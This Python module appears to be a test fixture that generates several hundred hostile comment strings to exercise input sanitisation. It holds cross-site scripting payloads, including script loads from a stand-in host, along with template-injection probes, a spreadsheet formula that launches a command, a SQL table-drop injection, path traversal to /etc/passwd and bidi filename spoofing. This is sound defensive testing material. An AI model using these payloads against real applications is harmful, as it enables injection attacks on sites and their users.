"""Five hundred comments that mean harm, made by rule: each kind of attack in several disguises."""

from collections.abc import Iterator
from itertools import islice

HURT = "window.hurt=1"
AWAY = "https://example.org/x"
EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforeinput", "onpageshow", "onscroll", "onwheel",
)  # fmt: skip
TAGS = ("img", "svg", "body", "input", "details", "video", "audio", "iframe", "object", "embed", "math", "marquee")
WHOLE = (
    f"<script>{HURT};alert(1)</script>",
    f"<ScRiPt >{HURT}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<svg><script>{HURT}</script></svg>",
    f"<svg/onload={HURT}>",
    f"<math><mtext><style><img src=x onerror={HURT}></style></mtext></math>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{HURT}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={HURT} xmlns=http://www.w3.org/2000/svg>'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<form action={AWAY}><button autofocus onfocus={HURT}>Press</button></form>",
    f"<a href='javascript:{HURT}' autofocus>press</a>",
    f"<a href='java\tscript:{HURT}'>press</a>",
    f"javascript:{HURT}//",
    f"data:text/html,<script>{HURT}</script>",
    f"<style>*{{background:url({AWAY})}}@import '{AWAY}';</style>",
    f"<div style='background:url({AWAY});position:fixed;inset:0;z-index:9'>over</div>",
    f"<img src={AWAY} srcset='{AWAY} 2x'><video poster={AWAY}><audio src={AWAY} autoplay>",
    f"<template><script>{HURT}</script></template><noscript><p title='</noscript><img src=x onerror={HURT}>'>",
    "{{ 7 * 7 }} {% raw %} {{ config }} {% for x in () %} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "=cmd|' /C calc'!A0",
    "+1+1 @SUM(A1) -2+3",
    '=HYPERLINK("https://example.org","press")',
    "'; DROP TABLE comment; --",
    "\x1b[31mred\x1b[0m \x07 \x08 \x7f \x85",
    "nothing\x00after",
    "\ufeff\ufffe\uffff\U0001fffe",
    "\ud83d alone \udc00 and \ud800\ud800",
    "../../../../etc/passwd%00.html",
    "👩‍👧‍👦🏳️‍🌈👍🏿" * 30,
    "a\u0301\u0302\u0303\u0304\u0489" * 200,
    "ｗｉｎｄｏｗ.ｈｕｒｔ ＜script＞ scrıpt ѕсrірt",
    "+ADw-script+AD4-window.hurt=1+ADw-/script+AD4-",
    "\u2028</script><script>window.hurt=1</script>\u2029",
    "--><script>window.hurt=1</script><!--",
    "]]><script>window.hurt=1</script><![CDATA[",
    "</textarea></select></title></style></option><script>window.hurt=1</script>",
    "&lt;script&gt;window.hurt=1&lt;/script&gt; &#60;script&#62; &amp;lt;",
    "\u200b\u200c\u200d\u2060\u00ad" * 50,
    "W" * 3000,
    "word " * 700,
    "\n" * 300 + "down here",
)
TURNING = (
    "\u202egnp.exe\u202c",
    "\u202e never turned back",
    "\u2067right\u2066left",
    "\u202b\u202e\u2066\u2067\u2068 deep",
    "\u2069\u2069\u202c\u202c closed too often",
    "مرحبا 123 שלום (45)",
    "שלום abc \u200f!",
    "\u202d 54321 \u202c \u061c",
)
"""Marks and letters that turn the order of what is read."""
FRAMES = ("{}", '"{}', "'{}", '"><b>{}', "' {} x='", "`{}`", "<!--{}-->", "{} hurt", "&quot;{}", '\\"{}')


def hostile(count: int) -> tuple[str, ...]:
    """So many comments, the same in every run; no two are alike. There are 620."""
    return tuple(islice(dict.fromkeys(_framed()), count))


def _framed() -> Iterator[str]:
    yield "x" * 100_000
    yield f"<img src=x onerror={HURT}>" * 3_000
    handlers = [
        f"<{tag} {event}={HURT} src=x tabindex=1 autofocus open>" for tag, event in zip(TAGS, EVENTS, strict=True)
    ]
    for frame in FRAMES:
        yield from (frame.format(attack) for attack in (*TURNING, *handlers, *WHOLE))
